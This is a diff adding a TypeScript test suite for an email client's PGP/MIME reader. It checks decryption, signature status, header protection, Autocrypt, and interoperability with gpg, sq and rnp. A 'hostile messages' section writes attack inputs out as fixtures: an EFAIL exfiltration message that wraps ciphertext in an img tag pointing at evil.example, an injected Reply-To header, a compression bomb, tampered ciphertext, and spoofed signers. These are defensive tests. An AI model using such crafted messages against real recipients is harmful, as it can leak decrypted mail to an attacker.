@@ -1,0 +1,364 @@
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import * as openpgp from 'openpgp';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import {
+  encryptWithAll,
+  generateToolKeys,
+  interopAvailability,
+  scratch,
+  type Scratch,
+  type ToolKey,
+} from '../../testing/interop';
+import { createCryptoApi } from '../crypto/api';
+import type { GeneratedKey } from '../crypto/types';
+import type { MessageInput } from '../mime/build-message';
+import { buildPayload, wrapEncrypted, wrapSigned, micalgFor } from '../mime/pgp-mime';
+import { openMessage, rootKeyIds, type OpenMessageOptions } from './open-message';
+
+const availability = interopAvailability();
+const crypto = createCryptoApi();
+const PASS = 'reading passphrase';
+const bytes = (s: string) => new TextEncoder().encode(s.replace(/\r?\n/g, '\r\n'));
+const text = (b: Uint8Array) => new TextDecoder().decode(b);
+const MAX = 8 * 1024 * 1024;
+
+let bob: GeneratedKey;
+let alice: GeneratedKey;
+let eve: GeneratedKey;
+let bobV6: GeneratedKey;
+
+const gen = (name: string, algorithm: 'curve25519-legacy' | 'curve25519-v6' = 'curve25519-legacy') =>
+  crypto.generateKey({ name, email: `${name}@example.org`, passphrase: PASS, algorithm, expiresInSeconds: 0 });
+
+beforeAll(async () => {
+  [bob, alice, eve, bobV6] = await Promise.all([gen('bob'), gen('alice'), gen('eve'), gen('bobsix', 'curve25519-v6')]);
+  for (const k of [bob, alice, bobV6]) await crypto.unlockKey(k.armoredSecret, PASS, 600_000);
+}, 60_000);
+
+const options = (over: Partial<OpenMessageOptions> = {}): OpenMessageOptions => ({
+  verifyWith: [alice.armoredPublic],
+  pinned: null,
+  maxDecompressedBytes: MAX,
+  ...over,
+});
+
+const input = (over: Partial<MessageInput> = {}): MessageInput => ({
+  from: { name: 'Alice', address: 'alice@example.org' },
+  to: [{ name: 'Bob', address: 'bob@example.org' }],
+  cc: [],
+  bcc: [],
+  subject: 'Geheim: Grüße',
+  text: 'Hello Bob,\nthe secret is 42.\n',
+  attachments: [{ name: 'data.bin', type: 'application/octet-stream', content: new Uint8Array([0, 1, 2, 250, 255]) }],
+  date: new Date('2026-12-01T10:00:00Z'),
+  messageId: '<read-1@example.org>',
+  baseBoundary: 'b1',
+  ...over,
+});
+
+/** A message as the composer sends it: PGP/MIME, signed inside the encryption (combined). */
+async function sentByApp(over: Partial<MessageInput> = {}, to: GeneratedKey = bob, signWith = alice) {
+  const i = input(over);
+  const payload = buildPayload(i, 'cipher');
+  await crypto.unlockKey(signWith.armoredSecret, PASS, 600_000);
+  const { armored } = await crypto.encryptPayload({
+    payload,
+    recipients: [{ armoredPublic: to.armoredPublic, address: to.summary.userIds[0]!.email }],
+    signWith: signWith.summary.fingerprint,
+  });
+  return wrapEncrypted(i, armored).bytes;
+}
+
+const encryptBinary = async (to: GeneratedKey, data: string, config: Partial<openpgp.Config>) =>
+  (await openpgp.encrypt({
+    message: await openpgp.createMessage({ text: data }),
+    encryptionKeys: await openpgp.readKey({ armoredKey: to.armoredPublic }),
+    format: 'binary',
+    config,
+  })) as Uint8Array;
+const armor = (binary: Uint8Array) => openpgp.armor(openpgp.enums.armor.message, binary);
+
+const encryptedMessage = (
+  armored: string,
+  head = 'From: Alice <alice@example.org>\nTo: bob@example.org\nSubject: [...]\n',
+) =>
+  bytes(
+    `${head}MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="E"\n\n--E\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--E\nContent-Type: application/octet-stream\n\n${armored.trim()}\n--E--\n`,
+  );
+
+describe('messages the app sends', () => {
+  it('decrypts, verifies, shows the protected subject and the attachment byte-exact', async () => {
+    const raw = await sentByApp();
+    expect(await rootKeyIds(raw, crypto)).toHaveLength(1);
+    const opened = await openMessage(raw, crypto, options());
+    expect(opened.encryption).toBe('encrypted');
+    expect(opened.signature).toBe('valid');
+    expect(opened.signer?.fingerprint).toBe(alice.summary.fingerprint);
+    expect(opened.headers.subject).toBe('Geheim: Grüße');
+    expect(opened.headerProtection).toBe('rfc9788');
+    expect(opened.injectedHeaders).toEqual([]);
+    expect(opened.parts).toEqual([
+      { kind: 'text', content: 'Hello Bob,\nthe secret is 42.\n', encrypted: true, signed: true },
+    ]);
+    expect([...opened.attachments[0]!.content]).toEqual([0, 1, 2, 250, 255]);
+    expect(opened.headers.from).toEqual([{ name: 'Alice', address: 'alice@example.org' }]);
+  });
+
+  it('v6 keys (SEIPDv2): a tampered AEAD chunk fails with no plaintext', async () => {
+    const raw = await sentByApp({}, bobV6);
+    expect((await openMessage(raw, crypto, options())).encryption).toBe('encrypted');
+    const binary = await encryptBinary(bobV6, 'Content-Type: text/plain\r\n\r\nsecret words here\r\n', {});
+    binary[binary.length - 40] ^= 1;
+    const opened = await openMessage(encryptedMessage(armor(binary)), crypto, options());
+    expect(opened.encryption).toBe('failed');
+    expect(opened.parts).toEqual([]);
+    expect(opened.attachments).toEqual([]);
+  });
+
+  it('a signature by a key other than the pinned one is `changed`; without the key, `unknown-key`', async () => {
+    const raw = await sentByApp();
+    expect((await openMessage(raw, crypto, options({ pinned: eve.summary.fingerprint }))).signature).toBe('changed');
+    const unknown = await openMessage(raw, crypto, options({ verifyWith: [] }));
+    expect(unknown.signature).toBe('unknown-key');
+    expect(unknown.unknownIssuers).toHaveLength(1);
+  });
+
+  it('without the key or without unlocking: no-key / locked, and no decryption is tried', async () => {
+    const raw = await sentByApp();
+    const spy = { ...crypto, openEncrypted: vi.fn(crypto.openEncrypted) };
+    expect((await openMessage(raw, spy, options({ cannotDecrypt: 'no-key' }))).encryption).toBe('no-key');
+    expect((await openMessage(raw, spy, options({ cannotDecrypt: 'locked' }))).encryption).toBe('locked');
+    expect(spy.openEncrypted).not.toHaveBeenCalled();
+  });
+});
+
+describe('hostile messages', () => {
+  it('altered ciphertext (MDC mismatch): failed, nothing shown', async () => {
+    const binary = await encryptBinary(bob, 'Content-Type: text/plain\r\n\r\nsecret words here\r\n', {
+      aeadProtect: false,
+      preferredCompressionAlgorithm: openpgp.enums.compression.uncompressed,
+    });
+    binary[binary.length - 30] ^= 0x20;
+    const opened = await openMessage(encryptedMessage(armor(binary)), crypto, options());
+    expect(opened.encryption).toBe('failed');
+    expect(opened.encryptionProblem).toMatch(/Modification detected|integrity|modif/i);
+    expect(JSON.stringify(opened)).not.toContain('secret words');
+  });
+
+  it('EFAIL direct exfiltration: a ciphertext between HTML parts is not decrypted', async () => {
+    const armored = (await openpgp.encrypt({
+      message: await openpgp.createMessage({ text: 'Content-Type: text/plain\r\n\r\nsecret\r\n' }),
+      encryptionKeys: await openpgp.readKey({ armoredKey: bob.armoredPublic }),
+    })) as string;
+    const raw = bytes(
+      `From: alice@example.org\nSubject: hi\nContent-Type: multipart/mixed; boundary="X"\n\n--X\nContent-Type: text/html\n\n<img src="http://evil.example/?\n--X\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="E"\n\n--E\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--E\nContent-Type: application/octet-stream\n\n${armored.trim()}\n--E--\n--X\nContent-Type: text/html\n\n">\n--X--\n`,
+    );
+    const spy = { ...crypto, openEncrypted: vi.fn(crypto.openEncrypted) };
+    const opened = await openMessage(raw, spy, options());
+    expect(opened.encryption).toBe('partial');
+    expect(spy.openEncrypted).not.toHaveBeenCalled();
+    expect(opened.parts.map((p) => p.kind)).toEqual(['html', 'html']);
+    expect(opened.attachments.map((a) => a.name)).toEqual(['encrypted.asc']);
+    expect(await rootKeyIds(raw, crypto)).toEqual([]);
+  });
+
+  it('compression bomb: failed with a reason', async () => {
+    const armored = (await openpgp.encrypt({
+      message: await openpgp.createMessage({ binary: new Uint8Array(4 * 1024 * 1024) }),
+      encryptionKeys: await openpgp.readKey({ armoredKey: bob.armoredPublic }),
+      config: { preferredCompressionAlgorithm: openpgp.enums.compression.zlib },
+    })) as string;
+    expect(armored.length).toBeLessThan(100_000);
+    const opened = await openMessage(encryptedMessage(armored), crypto, options({ maxDecompressedBytes: 1024 * 1024 }));
+    expect(opened.encryption).toBe('failed');
+    expect(opened.encryptionProblem).toMatch(/size/i);
+  });
+
+  it('signed part with unsigned text before it: partial', async () => {
+    const part = 'Content-Type: text/plain\r\n\r\nI agree.\r\n';
+    await crypto.unlockKey(alice.armoredSecret, PASS, 600_000);
+    const { armoredSignature } = await crypto.signPayload({ payload: part, signWith: alice.summary.fingerprint });
+    const raw = bytes(
+      `From: alice@example.org\nSubject: hi\nContent-Type: multipart/mixed; boundary="X"\n\n--X\nContent-Type: text/plain\n\nYou are fired.\n--X\nContent-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary="S"\n\n--S\n${part}\n--S\nContent-Type: application/pgp-signature\n\n${armoredSignature.trim()}\n--S--\n--X--\n`,
+    );
+    const opened = await openMessage(raw, crypto, options());
+    expect(opened.signature).toBe('partial');
+    expect(opened.parts.map((p) => [p.content.trim(), p.signed])).toEqual([
+      ['You are fired.', false],
+      ['I agree.', true],
+    ]);
+  });
+
+  it('good signature by someone other than From, and two From fields: mismatch', async () => {
+    const raw = await sentByApp({}, bob, eve);
+    const opened = await openMessage(raw, crypto, options({ verifyWith: [alice.armoredPublic, eve.armoredPublic] }));
+    expect(opened.signature).toBe('mismatch');
+    expect(opened.signatureDetail).toContain('eve@example.org');
+    const i = input();
+    const signedPart = buildPayload(i, 'clear');
+    const { armoredSignature, hash } = await crypto.signPayload({
+      payload: signedPart,
+      signWith: alice.summary.fingerprint,
+    });
+    const single = text(wrapSigned(i, signedPart, armoredSignature, micalgFor(hash)).bytes);
+    expect((await openMessage(bytes(single), crypto, options())).signature).toBe('valid');
+    // Header protection shows the signed inner From; without it, two outer From fields are a mismatch.
+    const part = 'Content-Type: text/plain\r\n\r\nI agree.\r\n';
+    const plainSig = await crypto.signPayload({ payload: part, signWith: alice.summary.fingerprint });
+    const signedMessage = (from: string) =>
+      bytes(
+        `${from}Subject: hi\nContent-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary="S"\n\n--S\n${part}\n--S\nContent-Type: application/pgp-signature\n\n${plainSig.armoredSignature.trim()}\n--S--\n`,
+      );
+    expect((await openMessage(signedMessage('From: alice@example.org\n'), crypto, options())).signature).toBe('valid');
+    const twoFrom = signedMessage('From: alice@example.org\nFrom: mallory@example.org\n');
+    expect((await openMessage(twoFrom, crypto, options())).signature).toBe('mismatch');
+  });
+
+  it('a display name that looks like an address is not the identity', async () => {
+    const raw = await sentByApp({ from: { name: 'boss@work.example', address: 'eve@example.org' } }, bob, eve);
+    const opened = await openMessage(raw, crypto, options({ verifyWith: [eve.armoredPublic] }));
+    expect(opened.signature).toBe('valid');
+    expect(opened.signer?.addresses).toEqual(['eve@example.org']);
+    expect(opened.headers.from[0]!.address).toBe('eve@example.org');
+  });
+
+  it('header fields added outside a protected message are reported, not shown', async () => {
+    const raw = text(await sentByApp());
+    const injected = raw.replace('Subject: [...]', 'Subject: [...]\r\nReply-To: mallory@evil.example');
+    const opened = await openMessage(new TextEncoder().encode(injected), crypto, options());
+    expect(opened.headers.replyTo).toEqual([]);
+    expect(opened.injectedHeaders).toEqual(['reply-to: mallory@evil.example']);
+  });
+
+  it('Autocrypt: a header whose addr is not From is ignored; a valid one is taken', async () => {
+    const keydata = btoa(
+      String.fromCharCode(...(await crypto.autocryptKeydata(alice.armoredPublic, 'alice@example.org'))),
+    );
+    const base = `From: alice@example.org\r\nTo: bob@example.org\r\nSubject: hi\r\n`;
+    const body = `Content-Type: text/plain\r\n\r\nhi\r\n`;
+    const good = await openMessage(
+      new TextEncoder().encode(`${base}Autocrypt: addr=alice@example.org; keydata=${keydata}\r\n${body}`),
+      crypto,
+      options(),
+    );
+    expect(good.autocrypt.header?.address).toBe('alice@example.org');
+    const wrong = await openMessage(
+      new TextEncoder().encode(`${base}Autocrypt: addr=eve@example.org; keydata=${keydata}\r\n${body}`),
+      crypto,
+      options(),
+    );
+    expect(wrong.autocrypt.header).toBeNull();
+    const critical = await openMessage(
+      new TextEncoder().encode(`${base}Autocrypt: addr=alice@example.org; future=1; keydata=${keydata}\r\n${body}`),
+      crypto,
+      options(),
+    );
+    expect(critical.autocrypt.header).toBeNull();
+  });
+});
+
+describe.runIf(availability.run)('messages from other implementations', () => {
+  let s: Scratch;
+  let tools: ToolKey[];
+  const payload =
+    'Content-Type: multipart/mixed; boundary="P"; protected-headers="v1"\r\nSubject: Tool subject\r\nFrom: TOOL\r\n\r\n--P\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nGr=C3=BC=C3=9Fe from the tool\r\n--P\r\nContent-Type: application/octet-stream; name="x.bin"\r\nContent-Disposition: attachment; filename="x.bin"\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC+v8=\r\n--P--\r\n';
+
+  beforeAll(() => {
+    s = scratch();
+    tools = generateToolKeys(s);
+    writeFileSync(join(s.dir, 'bob.pub.asc'), bob.armoredPublic);
+  }, 120_000);
+  afterAll(() => s?.cleanup());
+
+  it('PGP/MIME encrypted and signed by gpg, sq, sqop, gosop and rnp: text, attachment, valid signature', async () => {
+    const results: Record<string, string> = {};
+    for (const tool of tools) {
+      const file = join(s.dir, `${tool.tool}.payload`);
+      writeFileSync(file, payload.replace('From: TOOL', `From: ${tool.email}`));
+      const armored = encryptWithAll(
+        s,
+        [tool],
+        { publicFile: join(s.dir, 'bob.pub.asc'), email: 'bob@example.org' },
+        file,
+      )[tool.tool]!;
+      const raw = encryptedMessage(armored, `From: ${tool.email}\nTo: bob@example.org\nSubject: ...\n`);
+      const opened = await openMessage(raw, crypto, options({ verifyWith: [tool.publicKey] }));
+      results[tool.tool] =
+        `${opened.encryption} ${opened.signature} ${opened.signer?.fingerprint === tool.fingerprint} ` +
+        `${opened.headers.subject} | ${opened.parts[0]?.content.trim()} | ${[...(opened.attachments[0]?.content ?? [])].join(',')}`;
+    }
+    const expected = 'encrypted valid true Tool subject | Grüße from the tool | 0,1,2,250,255';
+    expect(results).toEqual(Object.fromEntries(tools.map((t) => [t.tool, expected])));
+  }, 120_000);
+
+  it('gpg inline: an encrypted and signed text, a cleartext-signed text, a SHA-1 signature', async () => {
+    const gpgKey = tools.find((t) => t.tool === 'gpg-ed25519')!;
+    const plain = join(s.dir, 'inline.txt');
+    writeFileSync(plain, 'Inline grüße\n');
+    const armored = encryptWithAll(
+      s,
+      [gpgKey],
+      { publicFile: join(s.dir, 'bob.pub.asc'), email: 'bob@example.org' },
+      plain,
+    )[gpgKey.tool]!;
+    const head = `From: ${gpgKey.email}\r\nTo: bob@example.org\r\nSubject: inline\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n`;
+    const inline = await openMessage(
+      new TextEncoder().encode(head + armored),
+      crypto,
+      options({ verifyWith: [gpgKey.publicKey] }),
+    );
+    expect([inline.encryption, inline.signature, inline.parts[0]?.content]).toEqual([
+      'encrypted',
+      'valid',
+      'Inline grüße\n',
+    ]);
+
+    const clear = s.gpg([
+      '--passphrase',
+      gpgKey.passphrase!,
+      '--local-user',
+      gpgKey.email,
+      '--clearsign',
+      '--output',
+      '-',
+      plain,
+    ]);
+    const signed = await openMessage(
+      new TextEncoder().encode(head + clear),
+      crypto,
+      options({ verifyWith: [gpgKey.publicKey] }),
+    );
+    expect([signed.encryption, signed.signature, signed.parts[0]?.content.trim()]).toEqual([
+      'none',
+      'valid',
+      'Inline grüße',
+    ]);
+    const prefixed = await openMessage(
+      new TextEncoder().encode(`${head}Unsigned words first.\r\n${clear}`),
+      crypto,
+      options({ verifyWith: [gpgKey.publicKey] }),
+    );
+    expect(prefixed.signature).toBe('partial');
+
+    const sha1 = s.gpg([
+      '--passphrase',
+      gpgKey.passphrase!,
+      '--local-user',
+      gpgKey.email,
+      '--digest-algo',
+      'SHA1',
+      '--clearsign',
+      '--output',
+      '-',
+      plain,
+    ]);
+    const weak = await openMessage(
+      new TextEncoder().encode(head + sha1),
+      crypto,
+      options({ verifyWith: [gpgKey.publicKey] }),
+    );
+    expect(weak.signature).toBe('bad');
+    expect(weak.signatureDetail).toMatch(/SHA1/i);
+  }, 60_000);
+});
